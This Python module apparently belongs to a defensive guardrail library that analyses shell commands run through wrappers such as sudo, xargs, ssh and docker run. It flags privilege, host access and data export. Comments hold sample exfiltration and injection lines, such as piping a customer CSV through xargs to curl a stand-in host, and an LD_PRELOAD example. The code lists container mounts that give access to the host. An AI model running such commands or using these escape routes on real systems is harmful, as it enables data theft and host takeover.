"""Programs that run the command they are given (sudo, env, xargs, ssh, docker exec)."""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from guardrails_core.intent import shell_registry
from guardrails_core.intent.shell.execution import _script, _stdin_program
from guardrails_core.intent.shell.files import _record_copy
from guardrails_core.intent.shell.listings import finished_pods
from guardrails_core.intent.shell.options import (
    _Call,
    _options,
    _parse,
    _Parsed,
    _url_host,
    _words,
)
from guardrails_core.intent.shell.own_network import OWN_HOST, stays_inside
from guardrails_core.intent.shell.rotation import rotated
from guardrails_core.intent.shell.words import EXPANSION_PLACEHOLDER, _concat, _Feed, _Origin, _Word
from guardrails_core.model import (
    Intent,
    ObjectAction,
    ObjectKind,
    StatementEffect,
)

# ----- wrappers


@dataclass(frozen=True, slots=True)
class _Wrapper:
    """A program that runs the command given as its remaining arguments (``sudo CMD...``)."""

    value_options: frozenset[str] = frozenset()
    positionals: int = 0  # operands before the command (timeout DURATION, chroot DIR)
    assignments: bool = False  # skips NAME=value words (env)
    script_options: frozenset[str] = frozenset()  # options whose value is a script (su -c)
    lookup_only: frozenset[str] = frozenset()  # options that only look the command up
    shell_options: frozenset[str] = frozenset()  # with no command: a shell that reads stdin


# run the command as root (or another user): what it does to the host, it does with their rights
_ROOT_RUNNERS = frozenset(("sudo", "doas", "pkexec"))  # and su, runuser (_su)


def _wrapped(call: _Call) -> None:
    spec = _WRAPPERS[call.prog]
    values = spec.value_options | spec.script_options
    parsed = _parse(call.args, values, first_operand_ends=True)
    rest = parsed.operands
    if spec.positionals:  # options may follow them too (flock FILE -c CMD)
        after = _parse(rest[spec.positionals :], values, first_operand_ends=True)
        parsed.options.extend(after.options)
        rest = after.operands
    if parsed.has(*spec.lookup_only):
        _looked_up(call, rest)
        return
    for script in parsed.values(*spec.script_options):
        _script(call, script, f"{call.prog} -c")
    if spec.assignments:
        settings = []
        while rest and re.match(r"^[A-Za-z_]\w*=", rest[0].value):
            settings.append(rest[0].value)  # env LD_PRELOAD=x.so ls
            rest = rest[1:]
        program = rest[0].value if rest else ""
        for setting in settings:
            call.analyzer.environment(call.effect, setting, program=program)
    runner = call.prog  # a command run as given names the statement from here on
    if rest:
        call.analyzer.run_inner(call, rest, feed=call.feed, transparent=True)
    elif parsed.has(*spec.shell_options) and call.feed is not None:
        _stdin_program(call, shell=True)  # sudo -s <<< 'CMD'
    elif call.prog == "env" and not parsed.has(*spec.script_options):
        _environment(call)
    if runner in _ROOT_RUNNERS:
        _as_root(call, runner)
        if rest and rest[0].runs_own_arguments:  # whatever the caller passes, run as root
            call.add(Intent.DYNAMIC, f'{runner} runs the command the script was given ("$@")')


def _as_root(call: _Call, runner: str) -> None:
    """What sudo, doas or su runs on the host, it does with root's rights: privilege too."""
    if any(Intent.HOST_ACCESS in inner.intents for inner in call.effect.embedded):
        call.add(Intent.PRIVILEGE, f"{runner} runs it as root, on the host")


def _looked_up(call: _Call, names: Sequence[_Word]) -> None:
    """`command -v psql`, `which psql`: prints where the program is; `X=$(command -v psql);
    "$X" ...` runs that program (its name stands for the path)."""
    if len(names) == 1 and not names[0].dynamic and "/" not in names[0].value:
        call.stdout = _Feed(_Origin.NONE, call.prog, _Word.literal(names[0].value + "\n"))


def _which(call: _Call) -> None:
    _looked_up(call, _parse(call.args).operands)


def _environment(call: _Call) -> None:
    """`env`, `printenv`: every variable, with the credentials a task is given (the bytes of
    /proc/self/environ); `printenv NAME` prints one value, as any program's output."""
    if call.prog == "env" or not _parse(call.args).operands:
        call.stdout = _Feed(_Origin.FILE, f"the environment ({call.prog})")


def _su(call: _Call) -> None:
    """su/runuser: options may follow the user; ``-c`` is a script, ``-- CMD`` a command."""
    runner = call.prog  # a command run as given names the statement from here on
    parsed = _parse(
        call.args,
        _words("-s --shell -g --group -G -u --user -c --command -w"),
    )
    for script in parsed.values("-c", "--command"):
        _script(call, script, f"{call.prog} -c")
    command = parsed.operands[parsed.after_dashdash :] if parsed.after_dashdash is not None else []
    if command and parsed.has("-u", "--user"):
        call.analyzer.run_inner(call, command, feed=call.feed, transparent=True)
    elif not parsed.values("-c", "--command") and call.feed is not None:
        _stdin_program(call, shell=True)  # su - app <<EOF: the login shell reads the heredoc
    _as_root(call, runner)


def _xargs(call: _Call) -> None:
    values = _words(
        "-a --arg-file -d --delimiter -E -I -L -n --max-args -P --max-procs -s --max-chars"
    )
    parsed = _parse(
        call.args, values, attached_only=_options("-e", "-i", "-l"), first_operand_ends=True
    )
    inner = parsed.operands or [_Word.literal("echo")]
    replace_strings = parsed.values("-I") + [
        w.tail(2) for w in call.args if w.value.startswith("-I") and len(w.value) > 2
    ]
    options = call.args[: len(call.args) - len(parsed.operands)]
    replace_strings += [_replace_string(w) for w in options if _REPLACE.match(w.value)]
    items = _literal_items(call.feed, lines=bool(replace_strings))
    if items is not None and not parsed.has("-0", "--null", "-d", "--delimiter", "-a"):
        # `printf '%s\n' orders customers | xargs -I{} psql -c "... {}"`: each run is read
        for item in items:
            if replace_strings:
                marker = replace_strings[-1].value
                argv = [_Word.literal(word.value.replace(marker, item)) for word in inner]
            else:
                argv = [*inner, _Word.literal(item)]
            call.analyzer.run_inner(call, argv, feed=None, transparent=True)
        return
    kept = None if parsed.has("-a", "--arg-file") else rotated(call.feed) or _scoped(call.feed)
    if kept is not None:  # `ls -t *.dump | tail -n +15 |`: the old files of one kind
        marker = replace_strings[-1].value if replace_strings else ""
        argv = [
            _Word.literal(word.value.replace(marker, kept.value)) if marker in word.value else word
            for word in inner
        ]
        call.analyzer.run_inner(
            call, argv if marker else [*inner, kept], feed=None, transparent=True
        )
        return
    for replace_string in replace_strings:
        inner = _placed(inner, replace_string.value, call.feed, "{xargs input}")
    # The words xargs appends: unknown, and possibly many.
    appended = _placed([], "", call.feed, "{xargs input}")
    call.analyzer.run_inner(call, [*inner, *appended], feed=None, transparent=True)


# GNU xargs' other spellings of -I: -i and --replace, whose string is {} unless attached
_REPLACE = re.compile(r"^(?:-i|--replace)(?:$|=|(?<=-i).)")


def _replace_string(option: _Word) -> _Word:
    """``-i`` and ``--replace`` are ``-I {}``; ``-iSTR`` and ``--replace=STR`` are ``-I STR``."""
    if option.value in ("-i", "--replace"):
        return _Word.literal("{}")
    return option.after("=") if option.value.startswith("--") else option.tail(2)


def _placed(
    words: Sequence[_Word], marker: str, feed: _Feed | None, label: str, *, many: bool = False
) -> list[_Word]:
    """The words xargs or parallel place from stdin (at ``marker``, or one appended when it
    is empty): where those bytes come from goes with them (`cat customers.csv | xargs -I{}
    curl "https://x/?d={}"` sends the file). ``many``: each stands for every input line (a
    glob), as parallel runs the command once per line."""
    origin = feed.origin if feed else _Origin.NONE
    source = feed.description if feed else ""
    if not marker:
        words = [_Word(EXPANSION_PLACEHOLDER, label, glob=True)]
        marker = EXPANSION_PLACEHOLDER
    return [
        _Word(
            word.value.replace(marker, EXPANSION_PLACEHOLDER),
            word.display,
            dynamic=True,
            glob=word.glob or many,
            origin=origin,
            source=source,
            expansions=(label,),
        )
        if marker in word.value
        else word
        for word in words
    ]


def _scoped(feed: _Feed | None) -> _Word | None:
    """`find /data -mtime +30 -name '*.tmp' |`: the matches of a narrowed find, one kind."""
    names = feed.names if feed is not None else None
    return names if names is not None and not names.glob else None


# Input items are taken as they are written only when nothing in them is quoting or escaping
# (xargs reads quotes and backslashes), and they are few: each is a run that is read.
_PLAIN_ITEM = re.compile(r"[\w./:@%+,=-]+")
_MOST_ITEMS = 8


def _literal_items(feed: _Feed | None, *, lines: bool) -> list[str] | None:
    """The items a literal input holds (lines for `-I`, else words), or None when the input is
    not known statically or holds anything but a few plain words."""
    if feed is None or feed.literal is None or feed.literal.dynamic or feed.origin:
        return None
    text = feed.literal.value
    items = [line.strip() for line in text.splitlines() if line.strip()] if lines else text.split()
    if not items or len(items) > _MOST_ITEMS:
        return None
    return items if all(_PLAIN_ITEM.fullmatch(item) for item in items) else None


def _trap(call: _Call) -> None:
    """``trap 'CMD' EXIT``: CMD runs later, when the signal comes: analysed now."""
    operands = [w for w in call.args if not w.value.startswith("-")]
    if len(operands) >= 2 and operands[0].value not in ("", "-"):
        _script(call, operands[0], "trap")


def _parallel(call: _Call) -> None:
    """GNU parallel: CMD ::: ARGS runs CMD per argument; with no CMD each argument is a command."""
    words = call.args
    split = next((i for i, w in enumerate(words) if w.value in (":::", "::::", ":::+")), len(words))
    command = _parse(
        words[:split], _words("-j --jobs -S --sshlogin --joblog --delay"), first_operand_ends=True
    ).operands
    inputs = words[split + 1 :]
    literal = [w.value for w in inputs if not w.dynamic and _PLAIN_ITEM.fullmatch(w.value)]
    given = split < len(words) and words[split].value == ":::"  # not `::::` files of inputs
    if command and given and inputs and len(literal) == len(inputs) <= _MOST_ITEMS:
        # `parallel 'gsutil du -s gs://raw-{}/' ::: events clicks`: the command line is a
        # shell script per input, {} replaced by it (or the input appended)
        line = " ".join(word.value for word in command)
        for item in literal:
            run = line.replace("{}", item) if "{}" in line else f"{line} {item}"
            _script(call, _Word.literal(run), "parallel")
        return
    scoped = None if given else _scoped(call.feed)
    if command and scoped is not None:  # `find ... -mtime +30 -name '*.tmp' | parallel rm {}`
        placed = [scoped if word.value == "{}" else word for word in command]
        argv = placed if any(word.value == "{}" for word in command) else [*command, scoped]
        call.analyzer.run_inner(call, argv, feed=None, transparent=True)
    elif command and inputs:
        call.analyzer.run_inner(call, [*command, *inputs], feed=None, transparent=True)
    elif command:  # each line of stdin is placed at {} (or appended): it goes where they go
        label = "{parallel input}"
        placed = _placed(command, "{}", call.feed, label, many=True)
        appended = [] if placed != command else _placed([], "", call.feed, label, many=True)
        call.analyzer.run_inner(call, [*placed, *appended], feed=None, transparent=True)
    else:
        for script in inputs:
            _script(call, script, "parallel")


def _watch(call: _Call) -> None:
    parsed = _parse(call.args, _words("-n --interval -q --equexit"), first_operand_ends=True)
    if not parsed.operands:
        return
    if parsed.has("-x", "--exec"):
        call.analyzer.run_inner(call, parsed.operands, feed=None, transparent=True)
    else:
        _script(call, _concat(parsed.operands, " "), "watch")


_SSH_VALUES = _words("-p -i -l -o -F -J -L -R -D -b -c -E -e -I -m -O -Q -S -W -w -B")


def _ssh(call: _Call) -> None:
    parsed = _parse(call.args, _SSH_VALUES, first_operand_ends=True)
    if not parsed.operands:
        return
    target, *command = parsed.operands
    host = _url_host(target.value) if "://" in target.value else target.display.rpartition("@")[2]
    call.obj(ObjectKind.HOST, ObjectAction.EXECUTE, host)
    feed = call.feed
    remote_start = len(call.effect.embedded)
    if command:
        script = _concat(command, " ")
        _script(call, script, f"on {host}")
        _remote_control(call, script, call.effect.embedded[remote_start:], host)
    elif feed is not None:
        _stdin_program(call, shell=True)
    if feed is not None and feed.literal is None:
        remote = call.effect.embedded[remote_start:]
        if (
            command
            and not target.dynamic
            and not _PASSES_ON.intersection(call.effect.findings)  # "$CMD": not visible here
            and _keeps_stdin(remote)
            and stays_inside(call, [(ObjectKind.HOST, host)], [_Word.literal("-")])
        ):
            call.obj(ObjectKind.HOST, ObjectAction.WRITE, host)
            call.add(Intent.WRITE, f"ssh sends {call.stdin()} to {host}, {OWN_HOST}")
        else:
            call.obj(ObjectKind.HOST, ObjectAction.EXPORT_TARGET, host)
            call.add(Intent.EXPORT, f"ssh sends {call.stdin()} to {host}")
    call.stdout = _Feed(_Origin.DOWNLOAD, f"ssh {host}")


def _remote_control(
    call: _Call, script: _Word, remote: Sequence[StatementEffect], host: str
) -> None:
    """A command ssh runs on another host as root (`sudo -u postgres dropdb`) that changes
    something, or one whose program comes from a variable (`"$REMOTE_CMD"`: any program at all),
    controls that host: host access, as a host-control program run there is."""
    if script.value.lstrip().startswith(EXPANSION_PLACEHOLDER):
        call.add(Intent.HOST_ACCESS, f"ssh runs a command taken from a variable on {host}")
    for statement in remote:
        runner = statement.text.split(maxsplit=1)[0] if statement.text.strip() else ""
        if runner in _ROOT_RUNNERS | _SWITCH_USER and set(statement.intents) - {Intent.READ}:
            call.add(Intent.HOST_ACCESS, f"ssh runs {statement.operation} as root on {host}")


_SWITCH_USER = frozenset(("su", "runuser"))


# what a remote command may do with the stdin it is sent (``cat > FILE``), and still keep it
# there: one that reaches another host, or is not understood, may pass it on
_PASSES_ON = frozenset(
    (Intent.EXPORT, Intent.DYNAMIC, Intent.UNKNOWN, Intent.HOST_ACCESS, Intent.UNPARSEABLE)
)


def _keeps_stdin(remote: Sequence[StatementEffect]) -> bool:
    return not any(
        _PASSES_ON.intersection(statement.intents)
        or any(ref.kind in (ObjectKind.HOST, ObjectKind.URL) for ref in statement.objects)
        for statement in remote
    )


def _exec_in(call: _Call, target: _Word, command: Sequence[_Word]) -> None:
    """docker/kubectl exec: the command runs as given (no shell) inside ``target``."""
    call.obj(ObjectKind.HOST, ObjectAction.EXECUTE, target.display)
    if command:
        call.analyzer.run_inner(call, list(command), feed=call.feed, transparent=True)


_DOCKER_EXEC_VALUES = _words("-e --env --env-file -u --user -w --workdir --detach-keys --index")


_DOCKER_RUN_VALUES = _words(
    "-v --volume -e --env --env-file -p --publish --name -w --workdir -u --user --network --net "
    "--entrypoint -m --memory --cpus --mount -l --label --label-file --restart -h --hostname "
    "--add-host --dns --device --cap-add --cap-drop --security-opt --ulimit --log-driver "
    "--log-opt --platform --pull --shm-size --tmpfs --gpus --runtime --ipc --pid --uts --userns "
    "--cidfile --cgroupns --memory-swap --stop-signal --stop-timeout --volumes-from --group-add "
    "--expose --link -a --attach --health-cmd --health-interval --cpu-shares -c --cpuset-cpus "
    "--replicas --mode --constraint --placement-pref --secret --config --endpoint-mode "
    "--limit-memory --limit-cpu --reserve-memory --reserve-cpu"
)
_HOST_MOUNTS = ("/", "/etc", "/root", "/var/run/docker.sock", "/run/docker.sock", "/dev", "/proc")


def _container_run(call: _Call, args: Sequence[_Word], *, service: bool = False) -> None:
    """docker run IMAGE CMD: CMD runs in a new container, which can reach the host via mounts."""
    parsed = _parse(args, _DOCKER_RUN_VALUES, first_operand_ends=True)
    if not parsed.operands:
        return
    image, *command = parsed.operands
    call.obj(ObjectKind.PROGRAM, ObjectAction.EXECUTE, image.display)
    mounts = [m.value.split(":")[0] for m in parsed.values("-v", "--volume")]
    mounts += [
        part.split("=", 1)[1]
        for m in parsed.values("--mount")
        for part in m.value.split(",")
        if part.startswith(("source=", "src="))
    ]
    reasons = ["--privileged"] if parsed.has("--privileged") else []
    reasons += [f"-v {m}" for m in mounts if m == "/" or m.rstrip("/") in _HOST_MOUNTS]
    reasons += [f"{n}=host" for n, v in parsed.options if v is not None and v.value == "host"]
    planted = [f"-v {m}" for m in _writable_mounts(parsed) if shell_registry.folder_holds(m)]
    reasons += [reason for reason in planted if reason not in reasons]
    if reasons:
        call.add(Intent.HOST_ACCESS, f"the container gets the host ({', '.join(reasons)})")
    rooted = [r for r in reasons if r in ("--privileged", "-v /") or r.endswith("docker.sock")]
    if rooted:  # every capability, the host's root filesystem or its Docker daemon: root there
        call.add(Intent.PRIVILEGE, f"the container is root on the host ({', '.join(rooted)})")
    entrypoint = parsed.values("--entrypoint")
    if entrypoint or command:
        call.analyzer.run_inner(call, [*entrypoint, *command], feed=call.feed, transparent=False)
    elif service:  # `docker compose run web`
        shell_registry.runs_image(call, image, " (a compose service)", service=True)
    else:
        shell_registry.runs_image(call, image)


def _writable_mounts(parsed: _Parsed) -> list[str]:
    """Host folders mounted writable (`-v ~/.ssh:/root/.ssh`; `:ro` and readonly are not):
    one holding startup or trust files (~, ~/.ssh) lets the container rewrite them."""
    folders = []
    for volume in parsed.values("-v", "--volume"):
        source, _, rest = volume.value.partition(":")
        if not volume.dynamic and "ro" not in rest.partition(":")[2].split(","):
            folders.append(source)
    for mount in parsed.values("--mount"):
        parts = mount.value.split(",")
        read_only = {"readonly", "ro", "readonly=true", "ro=true"} & set(parts)
        sources = [p.split("=", 1)[1] for p in parts if p.startswith(("source=", "src="))]
        if not read_only and not mount.dynamic:
            folders.extend(sources)
    return folders


# CONTAINER:PATH, or a pod's NAMESPACE/POD:PATH
_CONTAINER_PATH = re.compile(r"^(?:[^@/:\s]+/)?[^@/:\s]+:")


def _container_copy(call: _Call, paths: Sequence[_Word]) -> None:
    """`docker cp CONTAINER:SRC DEST` (`kubectl cp POD:SRC DEST`): what comes out of the
    container is written here (a copy into a container is the registry's write)."""
    inside = [_CONTAINER_PATH.match(path.value) is not None for path in paths]
    if inside == [True, False]:
        _record_copy(call.effect, paths[:1], paths[1], f"{call.prog} cp", recursive=False)


def _docker(call: _Call) -> None:
    parsed = _parse(
        call.args,
        _words("-H --host -c --context --config -f --file -p --project-name"),
        first_operand_ends=True,
    )
    operands = parsed.operands
    compose = call.prog == "docker-compose" or [word.value for word in operands[:1]] == ["compose"]
    if operands and operands[0].value == "compose":
        operands = _parse(
            operands[1:], _words("-f --file -p --project-name"), first_operand_ends=True
        ).operands
    if [word.value for word in operands[:2]] in (
        ["container", "run"],
        ["container", "create"],
        ["service", "create"],
    ):
        operands = operands[1:]  # `docker container run`: `docker run`; a service runs it too
    if operands and operands[0].value in ("run", "create"):
        _container_run(call, operands[1:], service=compose)
    elif operands and operands[0].value == "exec":
        rest = _parse(operands[1:], _DOCKER_EXEC_VALUES, first_operand_ends=True).operands
        this_host = not parsed.has("-H", "--host", "-c", "--context")
        test = bool(rest) and shell_registry.names_test_database(rest[0].value)
        if this_host and test and not rest[0].dynamic:
            # a container of this host named for tests or CI: the databases in it are the run's
            call.effect.local_test_database = rest[0].value
        if rest:
            _exec_in(call, rest[0], rest[1:])
    elif operands and operands[0].value == "cp":
        _container_copy(call, _parse(operands[1:]).operands)
    else:
        call.obj(ObjectKind.PROGRAM, ObjectAction.EXECUTE, call.name.display)


def _kubectl(call: _Call) -> None:
    values = _words(
        "-n --namespace --context --kubeconfig --cluster --user -s --server -c "
        "--container -f --filename --pod-running-timeout"
    )
    parsed = _parse(call.args, values, first_operand_ends=True)
    if parsed.operands and parsed.operands[0].value == "exec":
        inner = _parse(parsed.operands[1:], values)  # options may follow the pod
        if inner.operands:
            split = inner.after_dashdash
            command = inner.operands[split:] if split is not None else inner.operands[1:]
            _exec_in(call, inner.operands[0], command)
    elif parsed.operands and parsed.operands[0].value == "cp":
        _container_copy(call, _parse(parsed.operands[1:], values).operands)
    else:
        call.stdout = finished_pods(call.args) or call.stdout
        call.obj(ObjectKind.PROGRAM, ObjectAction.EXECUTE, call.name.display)


def _notebook_shell(call: _Call) -> None:
    """A notebook cell's shell escape (IPython, Jupyter, Databricks): `!cmd` and the `%sh`,
    `%%bash` magics run the command after the prefix; a cell magic alone on its line makes
    the lines below it shell lines, which are read as they are."""
    words = [call.name.after("!"), *call.args] if call.prog.startswith("!") else call.args
    if words:
        call.analyzer.run_inner(call, words, feed=call.feed, transparent=True)


NOTEBOOK_SHELLS = ("%sh", "%%sh", "%bash", "%%bash", "%system", "%sx", "%%system")

_WRAPPERS: dict[str, _Wrapper] = {
    "sudo": _Wrapper(
        _words(
            "-u --user -g --group -h --host -p --prompt -C --close-from -D --chdir -r "
            "--role -t --type -U --other-user -T --command-timeout"
        ),
        shell_options=_words("-s --shell -i --login"),
    ),
    "doas": _Wrapper(_options("-u", "-C"), shell_options=_options("-s")),
    "env": _Wrapper(
        _words("-u --unset -C --chdir"),
        assignments=True,
        script_options=_options("-S", "--split-string"),
    ),
    "nohup": _Wrapper(),
    "setsid": _Wrapper(),
    "timeout": _Wrapper(_words("-s --signal -k --kill-after"), positionals=1),
    "nice": _Wrapper(_options("-n", "--adjustment")),
    "ionice": _Wrapper(_words("-c --class -n --classdata -p --pid -P --pgid -u --uid")),
    "time": _Wrapper(_words("-f --format -o --output")),
    "command": _Wrapper(lookup_only=_options("-v", "-V")),
    "builtin": _Wrapper(),
    "exec": _Wrapper(_options("-a")),
    "stdbuf": _Wrapper(_words("-i --input -o --output -e --error")),
    "chroot": _Wrapper(_options("--userspec", "--groups"), positionals=1),
    "flock": _Wrapper(
        _words("-w --timeout -E --conflict-exit-code"),
        positionals=1,
        script_options=_options("-c", "--command"),
    ),
    "taskset": _Wrapper(positionals=1),
    "pkexec": _Wrapper(_options("--user")),
    "coproc": _Wrapper(),
    "screen": _Wrapper(_words("-S -c -t -p -e -h -L -Logfile -T")),
    "dtach": _Wrapper(positionals=1),
    "abduco": _Wrapper(positionals=1),
    "busybox": _Wrapper(),
    "unbuffer": _Wrapper(),
}
